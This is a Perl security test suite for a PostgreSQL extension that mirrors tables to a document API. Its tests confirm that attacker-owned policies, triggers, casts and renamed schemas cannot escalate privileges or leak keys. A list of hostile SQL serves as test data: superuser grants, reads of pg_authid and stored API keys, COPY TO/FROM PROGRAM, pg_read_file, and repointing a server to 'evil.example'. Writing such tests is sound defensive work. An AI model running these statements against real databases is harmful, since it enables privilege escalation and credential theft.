# Attacks by which a role might get a right, a row or a key of another one.
use strict;
use warnings;
use MixpeekTest::Attack;
use Test::More;

attack_cluster();

# Two tests of attacker's functions: they were run as attacker only, and none of their statements succeeded.
sub noted_nothing
{
	my ($what) = @_;

	is(sql("SELECT string_agg(DISTINCT who, ' ') FROM attacker.noted WHERE session <> 'attacker'
		OR who <> 'attacker'") =~ s/\battacker\b//r, '',
		"$what: only attacker has run her code");
	is(sql("SELECT string_agg(DISTINCT what, '; ') FROM attacker.noted WHERE outcome = 'done'"), '',
		"$what: nothing that it tried was done");
	return;
}

# Two tables of one claim: when the first one is read, its policy drops the second one. With the arguments of each
# mirror.
sub insert_into_two_tables
{
	my ($first, $second) = @_;

	sql_as('attacker', qq{
		CREATE FUNCTION attacker.dropper(int) RETURNS boolean LANGUAGE plpgsql AS \$\$
		BEGIN
			IF attacker.inside() THEN EXECUTE 'DROP TABLE IF EXISTS attacker.second'; END IF;
			RETURN true;
		END \$\$;
		CREATE TABLE attacker.first (id int PRIMARY KEY);
		ALTER TABLE attacker.first ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
		CREATE POLICY p ON attacker.first USING (attacker.dropper(id)) WITH CHECK (true);
		CREATE TABLE attacker.second (id int PRIMARY KEY);
		CREATE TRIGGER m AFTER INSERT ON attacker.first FOR EACH ROW EXECUTE FUNCTION mixpeek.mirror_row($first);
		CREATE TRIGGER m AFTER INSERT ON attacker.second FOR EACH ROW EXECUTE FUNCTION mixpeek.mirror_row($second);
		BEGIN; INSERT INTO attacker.first VALUES (1); INSERT INTO attacker.second VALUES (1); COMMIT});
	return;
}

attack 'a policy drops another table of the same claim' => sub {
	insert_into_two_tables("'first', 'server=attacker'", "'second', 'server=attacker'");
	like(join(',', wait_for_settled('attacker.first')), qr/^(mirrored|failed)$/, 'its row is mirrored or failed');
};

attack 'a policy drops another table of the same claim, without a right on any server',
	gains => qr{servers: \(attacker}, sub {
	sql('REVOKE USAGE ON FOREIGN SERVER attacker FROM attacker');
	insert_into_two_tables("'f', 'server=one'", "'s', 'server=two'");
	wait_for('the entry to be taken', sub {
		sql("SELECT count(*) FROM mixpeek.outbox WHERE relation = 'attacker.first'::regclass") == 0;
	});
	pass('the entry is removed from the outbox');
};

# Wait until a table's rows are mirrored or failed; the states that there are.
sub wait_for_settled
{
	my ($table) = @_;
	my $states;

	wait_for("$table to be settled", sub {
		$states = sql(qq{
			SELECT string_agg(DISTINCT state, ',' ORDER BY state) FROM (
				SELECT state FROM mixpeek.documents WHERE relation = '$table'::regclass
				UNION ALL SELECT 'dirty' FROM mixpeek.outbox WHERE relation = '$table'::regclass) s});
		return $states && $states !~ /dirty|sending|pending/;
	});
	return split(/,/, $states);
}

# Pairs of types, of which the first one is what the mirror was compiled with, and values after the change.
foreach my $change (
	[ 'bigint', 'text', '1', "'a text'", 'attackers_function' ],
	[ 'text', 'bigint', "'a text'", '4096', 'attackers_function' ],
	[ 'text', 'bigint', "'a text'", '4096', 'session' ],
	[ 'bigint', 'text', '1', "'a text'", 'session' ],
	[ 'jsonb', 'bigint', q('{"a": [1]}'), '4096', 'attackers_function' ],
	[ 'text[]', 'float8', q('{a}'), '7e-300', 'session' ],
	[ 'uuid', 'int', 'gen_random_uuid()', '1', 'attackers_function' ])
{
	my ($from, $to, $value, $using, $by) = @$change;

	attack "a column turns from $from into $to between compiling and reading, by $by" => sub {
		sql_as('attacker', qq{
			CREATE FUNCTION attacker.alter_it(int) RETURNS boolean LANGUAGE plpgsql AS \$\$
			BEGIN
				IF attacker.inside() AND '$by' <> 'session' AND EXISTS (SELECT FROM pg_catalog.pg_attribute
					WHERE attrelid = 'attacker.b'::pg_catalog.regclass AND attname = 'v'
					AND atttypid = '$from'::pg_catalog.regtype) THEN
					EXECUTE 'ALTER TABLE attacker.b ALTER v TYPE $to USING @{[ $using =~ s/'/''/gr ]}';
				END IF;
				RETURN true;
			END \$\$;
			CREATE TABLE attacker.a (id int PRIMARY KEY);
			ALTER TABLE attacker.a ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
			CREATE POLICY p ON attacker.a USING (attacker.alter_it(id)) WITH CHECK (true);
			CREATE TABLE attacker.b (id int PRIMARY KEY, v $from);
			SELECT mixpeek.mirror('attacker.a', 'a', server => 'attacker', backfill => false),
				mixpeek.mirror('attacker.b', 'b', server => 'attacker', backfill => false);
			INSERT INTO attacker.b VALUES (1, $value)});
		wait_for_states('attacker.b', 'mirrored');
		# A hundred rows, so that the change meets some of them at each stage.
		sql_as('attacker', 'BEGIN; INSERT INTO attacker.a VALUES (1); INSERT INTO attacker.b SELECT g, ' . $value
			. ' FROM generate_series(2, 100) g; COMMIT');
		sql_as('attacker', "ALTER TABLE attacker.b ALTER v TYPE $to USING $using") if $by eq 'session';
		wait_for_settled('attacker.b');
		my $values = sql_as('attacker', 'SELECT string_agg(DISTINCT to_jsonb(v)::text, chr(10)) FROM attacker.b');
		my $old = sql_as('attacker', "SELECT to_jsonb(($value)::$from)::text");
		my $allowed = join(' ', $values, $old);
		my %odd;
		foreach my $document (values %{ documents('attacker', 'b') })
		{
			my $v = JSON::PP->new->canonical->allow_nonref->encode($document->{v});
			$odd{$v} = 1 unless $from eq 'uuid' || index($allowed =~ s/\s//gr, $v =~ s/\s//gr) >= 0
				|| $document->{v} eq '7e-300';
			$odd{$v} = 1 if $from eq 'uuid' && $v !~ /^"[0-9a-f-]{36}"$|^1$/;
		}
		is(join(' ', sort keys %odd), '', 'no document has what never was in the column');
		is(join(' ', sort grep { !/^a text|^1$/ } map { $_->{last_error} // () } values %{ records('attacker.b',
			'failed') }), '', 'no row failed');
	};
}

attack 'a schema is renamed, and attacker creates one of its old name', rights => { create_on_database => 1 } => sub {
	loot();
	sql('CREATE SCHEMA app AUTHORIZATION owner_a');
	sql_as('owner_a', q{
		CREATE TABLE app.t (id int PRIMARY KEY, v text);
		SELECT mixpeek.mirror('app.t', 'app', server => 'owner_a');
		INSERT INTO app.t VALUES (1, 'hers')});
	wait_for_states('app.t', 'mirrored');
	sql('ALTER SCHEMA app RENAME TO app_2026');
	sql_as('attacker', q{
		CREATE SCHEMA app;
		CREATE FUNCTION app.evil() RETURNS text LANGUAGE plpgsql AS $$
		BEGIN
			PERFORM attacker.loot('GRANT ALL ON app_2026.t, owner_a.secret TO attacker');
			PERFORM attacker.loot('ALTER ROLE attacker SUPERUSER');
			RETURN 'forged';
		END $$;
		GRANT USAGE ON SCHEMA app, attacker TO PUBLIC; GRANT INSERT ON attacker.noted TO PUBLIC;
			GRANT USAGE ON SEQUENCE attacker.noted_number_seq TO PUBLIC;
		CREATE VIEW app.t AS SELECT i AS id, app.evil() AS v FROM generate_series(1, 10) i;
		GRANT ALL ON app.t TO PUBLIC});
	sql_as('owner_a', "UPDATE app_2026.t SET v = 'still hers'; INSERT INTO app_2026.t VALUES (2, 'and this')");
	wait_for_states('app_2026.t', 'mirrored');
	noted_nothing('the view of the old name');
	is(documents('owner_a', 'app')->{1}{v}, 'still hers', 'the document of the old row is that of the row');
	is(documents('owner_a', 'app')->{2}{v}, 'and this', 'the document of the new row is that of the row');
	sql('DROP SCHEMA app_2026 CASCADE');
};

attack 'two schemas exchange their names' => sub {
	sql('CREATE SCHEMA blue AUTHORIZATION attacker; CREATE SCHEMA green AUTHORIZATION attacker');
	sql_as('attacker', join('', map { qq{
		CREATE TABLE $_.t (id int PRIMARY KEY, v text);
		SELECT mixpeek.mirror('$_.t', '$_', server => 'attacker');
		INSERT INTO $_.t VALUES (1, 'row of $_')} . ';' } qw(blue green)));
	wait_for_states("$_.t", 'mirrored') foreach qw(blue green);
	sql('ALTER SCHEMA blue RENAME TO old; ALTER SCHEMA green RENAME TO blue');
	sql_as('attacker', "UPDATE old.t SET v = 'row of blue, changed'; UPDATE blue.t SET v = 'row of green, changed'");
	wait_for_states("$_.t", 'mirrored') foreach qw(old blue);
	my %v = map { my $collection = $_; map { $_ => 1 } map { $_->{v} } values %{ documents('attacker',
		$collection) } } qw(blue green);
	is_deeply([ sort keys %v ], [ 'row of blue, changed', 'row of green, changed' ],
		'each document is that of its row');
	is(documents('attacker', 'blue')->{1}{v}, 'row of blue, changed',
		'the document in collection blue is that of the row');
};

attack 'a mirrored table is renamed, and another one takes its name', rights => { create_on_database => 1 } => sub {
	loot();
	sql_as('attacker', q{
		CREATE TABLE attacker.t (id int PRIMARY KEY, v text, doc_id text);
		SELECT mixpeek.mirror('attacker.t', 'renamed', server => 'attacker', document_id_column => 'doc_id');
		INSERT INTO attacker.t VALUES (1, 'real')});
	wait_for_states('attacker.t', 'mirrored');
	sql_as('attacker', q{
		BEGIN;
		ALTER TABLE attacker.t RENAME TO away;
		CREATE TABLE attacker.t (id int PRIMARY KEY, v text, doc_id text);
		INSERT INTO attacker.t VALUES (1, 'the other one');
		UPDATE attacker.away SET v = 'real still';
		COMMIT});
	wait_for_states('attacker.away', 'mirrored');
	is(documents('attacker', 'renamed')->{1}{v}, 'real still', 'the document is that of the table that was mirrored');
	is(sql('SELECT doc_id FROM attacker.t'), '', 'nothing is written back to the table that took the name');
	is(sql('SELECT count(doc_id) FROM attacker.away'), '1', 'the id is written back to the table that was mirrored');
};

attack 'a table changes hands while its row is under way' => sub {
	loot();
	sql(q{
		CREATE TABLE public.orders (id int PRIMARY KEY, v text, doc_id text);
		SELECT mixpeek.mirror('public.orders', 'orders', document_id_column => 'doc_id')});
	api('superuser')->config(latency => 400);
	sql("INSERT INTO public.orders VALUES (1, 'of the superuser')");
	in_flight('superuser', 1);
	sql('ALTER TABLE public.orders OWNER TO attacker');
	sql_as('attacker', q{
		CREATE FUNCTION attacker.trap() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN PERFORM attacker.loot('ALTER ROLE attacker SUPERUSER'); RETURN new; END $$;
		CREATE TRIGGER trap BEFORE UPDATE ON public.orders FOR EACH ROW EXECUTE FUNCTION attacker.trap();
		BEGIN; LOCK TABLE public.orders});
	wait_for('the answer', sub { api('superuser')->stats->{in_flight} == 0 });
	wait_for('the row to be settled', sub {
		my $line = records('public.orders')->{1};
		$line && $line->{state} ne 'sending';
	});
	sql_as('attacker', "UPDATE public.orders SET v = 'of attacker'");
	noted_nothing('the trigger on the table');
};

attack 'a table changes hands and back while its row is under way' => sub {
	loot();
	sql(q{
		CREATE TABLE public.orders (id int PRIMARY KEY, v text, doc_id text);
		SELECT mixpeek.mirror('public.orders', 'orders', document_id_column => 'doc_id')});
	api('superuser')->config(latency => 400);
	sql("INSERT INTO public.orders VALUES (1, 'of the superuser')");
	in_flight('superuser', 1);
	sql('ALTER TABLE public.orders OWNER TO attacker');
	sql_as('attacker', q{
		CREATE FUNCTION attacker.trap() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN PERFORM attacker.loot('ALTER TABLE attacker.noted ADD COLUMN was_here text'); RETURN new; END $$});
	sql('ALTER TABLE public.orders OWNER TO CURRENT_USER');
	wait_for_states('public.orders', 'mirrored');
	like(sql('SELECT doc_id FROM public.orders'), qr/./, "the id is written back with its owner's rights");
	sql('DROP TABLE public.orders');
};

attack "sync() in a session with temporary tables that others' functions might find" => sub {
	loot();
	sql_as('owner_a', q{
		CREATE TABLE owner_a.audit (who text, what text);
		CREATE FUNCTION owner_a.note() RETURNS trigger LANGUAGE plpgsql SET search_path = public AS $$
		BEGIN
			IF current_setting('my.step', true) IS NULL THEN INSERT INTO audit VALUES (current_user, new.v); END IF;
			RETURN new;
		EXCEPTION WHEN undefined_table THEN RETURN new;
		END $$;
		CREATE TRIGGER note BEFORE UPDATE ON owner_a.wb FOR EACH ROW EXECUTE FUNCTION owner_a.note()});
	api('owner_a')->config(latency => 300);
	sql_as('owner_a', "INSERT INTO owner_a.wb VALUES (1, 'a row')");
	sql_as('attacker', q{
		CREATE FUNCTION attacker.trap() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN
			PERFORM attacker.loot('GRANT SELECT ON owner_a.secret TO attacker');
			PERFORM attacker.loot('ALTER ROLE attacker SUPERUSER');
			RETURN new;
		END $$;
		GRANT INSERT ON attacker.noted TO PUBLIC; GRANT USAGE ON SEQUENCE attacker.noted_number_seq TO PUBLIC});
	refusal('attacker', q{
		CREATE TEMP TABLE audit (who text, what text); GRANT ALL ON audit TO PUBLIC;
		CREATE TRIGGER trap BEFORE INSERT ON audit FOR EACH ROW EXECUTE FUNCTION attacker.trap();
		CALL mixpeek.sync()});
	wait_for_states('owner_a.wb', 'mirrored');
	noted_nothing('the trigger on the temporary table');
	sql("DROP FUNCTION owner_a.note() CASCADE; DROP TABLE owner_a.audit; DELETE FROM owner_a.wb WHERE id = 1");
};

attack "plans that a session prints do not show others' keys" => sub {
	api('owner_a')->config(latency => 500);
	sql_as('owner_a', q{
		CREATE TABLE owner_a.people (ssn text PRIMARY KEY);
		SELECT mixpeek.mirror('owner_a.people', 'people', server => 'owner_a');
		INSERT INTO owner_a.people VALUES ('SSN-123-45-6789')});
	foreach my $role (qw(nobody attacker db_owner))
	{
		foreach my $call ("SELECT mixpeek.wait('0.3s')", 'CALL mixpeek.sync()',
			'SELECT count(*) FROM mixpeek.documents', 'SELECT count(*) FROM mixpeek.mirrors')
		{
			my $session = session($role);
			$session->send("SET client_min_messages = debug5; SET debug_print_plan = on; SET debug_print_parse = on;
				SET debug_print_rewritten = on;
				SET log_min_messages = debug5; SET plan_cache_mode = force_custom_plan; SET debug_pretty_print = on;
					SET log_statement_stats = on; $call");
			$session->wait;
			my $printed = $session->errors . $session->wait;
			# Constants are printed as the bytes of memory, in decimal.
			my $bytes = join('', map { chr } grep { $_ >= 32 && $_ < 127 } map { $_ < 0 ? $_ + 256
				: $_ } $printed =~ /(-?\b\d{1,3}\b)/g);
			unlike($printed . $bytes, qr/SSN-|sk_secret/, "no key is printed: $role: " . $call =~ s{\s+}{ }gr);
		}
	}
	sql('DROP TABLE owner_a.people');
};

attack "a mirror's trigger on another owner's table, created where no event trigger might fire" => sub {
	sql_as('owner_a', q{
		CREATE TABLE owner_a.pinned (id int PRIMARY KEY, v text, pin text);
		INSERT INTO owner_a.pinned VALUES (1, 'private', 'my pin');
		GRANT TRIGGER, INSERT ON owner_a.pinned TO attacker});
	my $create = q{CREATE TRIGGER stolen AFTER INSERT OR UPDATE ON owner_a.pinned FOR EACH ROW
		EXECUTE FUNCTION mixpeek.mirror_row('stolen', 'server=owner_a', 'document_id_column=pin')};
	like(refusal('attacker', $create), qr/must be owner/, 'CREATE TRIGGER is refused');
	sql_as('attacker', qq{
		CREATE FUNCTION attacker.make() RETURNS int LANGUAGE plpgsql AS \$\$
		BEGIN EXECUTE \$x\$$create\$x\$; RETURN 1; END \$\$;
		CREATE MATERIALIZED VIEW attacker.v AS SELECT attacker.make() AS n WITH NO DATA;
		CREATE FUNCTION attacker.make_in_index(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS \$\$ BEGIN
			RETURN attacker.make(); END \$\$;
		CREATE TABLE attacker.i (id int); INSERT INTO attacker.i VALUES (1)});
	isnt(refusal('attacker', 'REFRESH MATERIALIZED VIEW attacker.v'), '',
		'CREATE TRIGGER within REFRESH MATERIALIZED VIEW is refused');
	isnt(refusal('attacker', 'CREATE INDEX ON attacker.i (attacker.make_in_index(id))'), '',
		'CREATE TRIGGER within CREATE INDEX is refused');
	isnt(refusal('attacker', "CREATE TABLE attacker.c AS SELECT attacker.make()"), '',
		'CREATE TRIGGER within CREATE TABLE AS is refused');
	isnt(refusal('attacker', "DO \$d\$ BEGIN PERFORM attacker.make(); END \$d\$"), '',
		'CREATE TRIGGER within DO is refused');
	refusal('attacker', "INSERT INTO owner_a.pinned VALUES (2, 'another', 'my pin')");
	refusal('owner_a', "INSERT INTO owner_a.pinned VALUES (3, 'another', 'my pin')");
	is_deeply(api('owner_a')->documents('stolen'), [], "nothing is sent to the other owner's API");
	is(sql("SELECT string_agg(DISTINCT pin, ' ') FROM owner_a.pinned"), 'my pin',
		"nothing is written to the other owner's column");
	is(sql("SELECT count(*) FROM pg_trigger WHERE tgname = 'stolen'"), 0, 'no trigger has been made');
	sql('DROP TABLE owner_a.pinned');
};

attack 'mirrors of tables to which attacker has no right' => sub {
	foreach my $relation ('owner_a.t', 'owner_a.secret', 'mixpeek.documents', 'mixpeek.outbox', 'mixpeek.origin',
		'pg_catalog.pg_authid')
	{
		foreach my $statement ("SELECT mixpeek.mirror('$relation', 'c', server => 'attacker')",
			"SELECT mixpeek.unmirror('$relation')",
			"SELECT mixpeek.preview('$relation', '1')", "SELECT mixpeek.refresh('$relation')",
			"SELECT mixpeek.retry('$relation')")
		{
			my $refusal = refusal('attacker', $statement);
			isnt($refusal, '', "refused: " . $statement =~ s{\s+}{ }gr);
		}
	}
	foreach my $table ('owner_a.t', 'owner_a.secret', 'mixpeek.documents')
	{
		refusal('attacker', "CREATE TABLE attacker.m (id int PRIMARY KEY, v text); SELECT mixpeek.mirror('attacker.m',
			't', server => 'attacker');
			CREATE TRIGGER x AFTER INSERT OR DELETE ON attacker.m FOR EACH ROW
				EXECUTE FUNCTION mixpeek.mirror_row('t', 'server=attacker', 'table=$table');
			INSERT INTO attacker.m VALUES (1, 'forged'); DELETE FROM attacker.m; DROP TABLE attacker.m");
	}
	pass('triggers with the name of another table as an argument are tried');
};

attack "an owner's function releases all advisory locks" => sub {
	sql_as('attacker', q{
		CREATE FUNCTION attacker.unlock() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN
			PERFORM pg_catalog.pg_advisory_unlock_all();
			PERFORM pg_catalog.pg_advisory_lock(42), pg_catalog.pg_advisory_lock_shared(43, 44);
			RETURN new;
		END $$;
		CREATE TABLE attacker.t (id int PRIMARY KEY, v text, doc_id text);
		CREATE TRIGGER unlock BEFORE UPDATE ON attacker.t FOR EACH ROW EXECUTE FUNCTION attacker.unlock();
		SELECT mixpeek.mirror('attacker.t', 't', server => 'attacker', document_id_column => 'doc_id');
		INSERT INTO attacker.t SELECT g FROM generate_series(1, 20) g});
	wait_for_states('attacker.t', 'mirrored');
	api('attacker')->config(latency => 50);
	sql_as('attacker', 'INSERT INTO attacker.t SELECT g FROM generate_series(21, 200) g');
	my @beside = map { my $session = session('superuser'); $session->send('CALL mixpeek.sync()'); $session } 1 .. 3;
	$_->wait foreach @beside;
	wait_for_states('attacker.t', 'mirrored');
	my $stats = api('attacker')->stats;
	is_deeply([ @$stats{qw(creates duplicates overlaps)} ], [ 200, 0, 0 ], 'each document is created once');
	wait_for('the locks to go', sub {
		sql("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid IN (42, 44)") == 0;
	});
	pass('no advisory lock of the function stays');
	is(sql('SELECT pg_try_advisory_lock(42)'), 't', 'another session can take the advisory lock');
	sql('SELECT pg_advisory_unlock(42)');
};

# Statements that an owner's code may try, wherever it is run.
my @tries = (
	'SET ROLE ROOT', 'RESET ROLE', 'SET SESSION AUTHORIZATION ROOT', 'RESET SESSION AUTHORIZATION',
	'SET SESSION AUTHORIZATION DEFAULT',
	"SELECT set_config('role', 'ROOT', false)", "SELECT set_config('session_authorization', 'ROOT', false)",
		'SET ROLE owner_a', 'SET SESSION AUTHORIZATION owner_a',
	'ALTER ROLE attacker SUPERUSER', 'ALTER ROLE attacker BYPASSRLS', 'CREATE ROLE evil SUPERUSER',
		'CREATE ROLE evil', 'GRANT ROOT TO attacker', 'GRANT owner_a TO attacker',
	'GRANT pg_read_all_data TO attacker', 'ALTER TABLE owner_a.secret OWNER TO attacker',
		'GRANT SELECT ON owner_a.secret TO attacker',
	'SELECT v FROM owner_a.secret', 'SELECT v FROM owner_a.t', 'INSERT INTO owner_a.t VALUES (-1)',
		"UPDATE owner_a.wb SET v = 'forged'", 'TRUNCATE owner_a.t', 'DROP TABLE owner_a.t',
	'LOCK TABLE owner_a.t', 'SELECT umoptions FROM pg_catalog.pg_user_mapping', 'SELECT * FROM pg_catalog.pg_authid',
		'SELECT * FROM pg_catalog.pg_shadow',
	'INSERT INTO mixpeek.outbox SELECT * FROM mixpeek.outbox',
		"INSERT INTO mixpeek.outbox VALUES ('owner_a.t'::regclass, 'D', 't', '1')", 'DELETE FROM mixpeek.outbox',
	"UPDATE mixpeek.documents SET document_id = 'x'", 'UPDATE mixpeek.origin SET id = id',
		'DELETE FROM mixpeek.forgotten', 'TRUNCATE mixpeek.documents',
	"COPY owner_a.secret TO '/tmp/mixpeek_loot'", "COPY attacker.noted FROM PROGRAM 'id'",
		"COPY (SELECT 1) TO PROGRAM 'id'",
	"SELECT pg_read_file('postgresql.conf')", "SELECT lo_export(1, '/tmp/x')", "SELECT pg_ls_dir('.')",
		'LOAD \'$libdir/plpgsql.so\'', "SELECT pg_reload_conf()", "SELECT pg_rotate_logfile()",
	"ALTER SYSTEM SET mixpeek.enabled = off", 'SET mixpeek.allow_http = on', 'SET mixpeek.enabled = off',
		"SET mixpeek.read_timeout = '1d'", 'SET session_replication_role = replica', "SET log_statement = 'all'",
	"SET zero_damaged_pages = on", "SET session_preload_libraries = 'x'",
	'SELECT mixpeek.adopt()', 'ALTER SERVER owner_a OPTIONS (SET base_url \'https://evil.example\')',
		'CREATE USER MAPPING FOR attacker SERVER owner_a OPTIONS (api_key \'x\')',
	'ALTER USER MAPPING FOR owner_a SERVER owner_a OPTIONS (SET api_key \'x\')',
		"SELECT mixpeek.get_document('secret', 'x', server => 'owner_a')",
		"SELECT mixpeek.list_documents('secret', server => 'owner_a')",
	"SELECT mixpeek.mirror('owner_a.secret', 'stolen', server => 'owner_a')",
		"CREATE EVENT TRIGGER evil ON ddl_command_end EXECUTE FUNCTION attacker.none()",
	"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type = 'mixpeek_docs worker'
		AND pid <> pg_backend_pid()",
	"SELECT pg_catalog.pg_promote()", "SELECT pg_switch_wal()", "SELECT pg_create_restore_point('x')",
		"SELECT pg_logical_emit_message(true, 'a', 'b') FROM pg_catalog.pg_stat_replication",
	'CREATE SUBSCRIPTION evil CONNECTION \'host=127.0.0.1\' PUBLICATION x',
		'CREATE FUNCTION attacker.c() RETURNS int LANGUAGE c AS \'libc.so.6\', \'abort\'',
		'CREATE FUNCTION attacker.i() RETURNS int LANGUAGE internal AS \'pg_backend_pid\'');
s/\s+/ /g foreach @tries;

foreach my $place ('policy', 'cast', 'domain', 'generated', 'check', 'index', 'before trigger', 'after trigger',
	'deferred trigger', 'rule', 'security definer')
{
	attack "a function tries to get every right there is, in a $place" => sub {
		my $root = sql('SELECT current_user');
		my $list = join(', ', map { my $try = s/ROOT/$root/r; "\$try\$$try\$try\$" } @tries);

		loot();
		sql_as('attacker', qq{
			CREATE FUNCTION attacker.attack(place text) RETURNS boolean
				LANGUAGE plpgsql @{[ $place eq 'security definer' ? 'SECURITY DEFINER' : '' ]} AS \$\$
			DECLARE
				statement text;
			BEGIN
				IF NOT attacker.inside() THEN RETURN true; END IF;
				FOREACH statement IN ARRAY ARRAY[$list] LOOP PERFORM attacker.loot(statement); END LOOP;
				RETURN true;
			END \$\$;
			CREATE FUNCTION attacker.sneak(place text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS \$\$
			BEGIN PERFORM attacker.attack(place); RETURN place; END \$\$;
			CREATE FUNCTION attacker.attack_row() RETURNS trigger LANGUAGE plpgsql AS \$\$
			BEGIN PERFORM attacker.attack(tg_argv[0]); RETURN new; END \$\$;
			CREATE TYPE attacker.mood AS ENUM ('bad');
			CREATE FUNCTION attacker.mood_json(attacker.mood) RETURNS json LANGUAGE plpgsql AS \$\$
			BEGIN PERFORM attacker.attack('cast'); RETURN '"bad"'; END \$\$;
			CREATE DOMAIN attacker.checked AS text CHECK (attacker.attack('domain' || left(value, 0)))});
		my %table = (
			policy => q{ALTER TABLE attacker.t ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
				CREATE POLICY p ON attacker.t USING (attacker.attack('policy'))},
			'security definer' => q{ALTER TABLE attacker.t ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
				CREATE POLICY p ON attacker.t USING (attacker.attack('policy'))},
			cast => q{CREATE CAST (attacker.mood AS json) WITH FUNCTION attacker.mood_json(attacker.mood);
				ALTER TABLE attacker.t ADD mood attacker.mood DEFAULT 'bad'},
			domain => 'ALTER TABLE attacker.t ALTER doc_id TYPE attacker.checked',
			generated => q{ALTER TABLE attacker.t ADD g text GENERATED ALWAYS AS (attacker.sneak('g' || left(doc_id,
				0))) STORED},
			check => q{ALTER TABLE attacker.t ADD CHECK (attacker.attack('check' || left(v, 0)))},
			index => q{CREATE INDEX ON attacker.t (attacker.sneak('index' || left(doc_id, 0)))},
			'before trigger' => q{CREATE TRIGGER x BEFORE UPDATE ON attacker.t FOR EACH ROW
				EXECUTE FUNCTION attacker.attack_row('x')},
			'after trigger' => q{CREATE TRIGGER x AFTER UPDATE ON attacker.t FOR EACH ROW
				EXECUTE FUNCTION attacker.attack_row('x')},
			'deferred trigger' => q{CREATE CONSTRAINT TRIGGER x AFTER
				UPDATE ON attacker.t DEFERRABLE INITIALLY DEFERRED FOR EACH ROW
				EXECUTE FUNCTION attacker.attack_row('x')},
			rule => q{CREATE RULE r AS ON UPDATE TO attacker.t DO ALSO SELECT attacker.attack('rule')});
		sql_as('attacker', qq{
			CREATE TABLE attacker.t (id int PRIMARY KEY, v text, doc_id text, enrichments jsonb);
			$table{$place};
			SELECT mixpeek.mirror('attacker.t', 'tries', server => 'attacker', document_id_column => 'doc_id',
				enrichments_column => 'enrichments');
			INSERT INTO attacker.t VALUES (1, 'x')});
		like(join(',', wait_for_settled('attacker.t')), qr/^(mirrored|failed)$/, 'the row is mirrored or failed');
		# A deferred trigger may be refused; a rule is no part of a write-back.
		wait_for('its function to be run', sub { sql('SELECT count(*) FROM attacker.noted') >= @tries })
		  unless $place =~ /rule|deferred/;
		is(sql("SELECT string_agg(DISTINCT who, ' ') FROM attacker.noted WHERE who <> 'attacker'"), '',
			'the function runs as attacker');
		my @allowed = ('RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION DEFAULT',
			"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type = 'mixpeek_docs worker'
				AND pid <> pg_backend_pid()",
			"UPDATE mixpeek.documents SET document_id = 'x'", 'DELETE FROM mixpeek.outbox',
			'SELECT pg_logical_emit_message(true, \'a\', \'b\') FROM pg_catalog.pg_stat_replication');
		s/\s+/ /g foreach @allowed;
		my $allowed = join(', ', map { "\$a\$$_\$a\$" } @allowed);
		is(sql("SELECT string_agg(DISTINCT what, '; ') FROM attacker.noted WHERE outcome = 'done'
			AND what NOT IN ($allowed)"), '', 'no statement that must be refused was done');
		is(sql("SELECT count(*) FROM pg_roles WHERE rolname = 'evil'"), 0, 'no role was created');
	};
}

attacks_end();
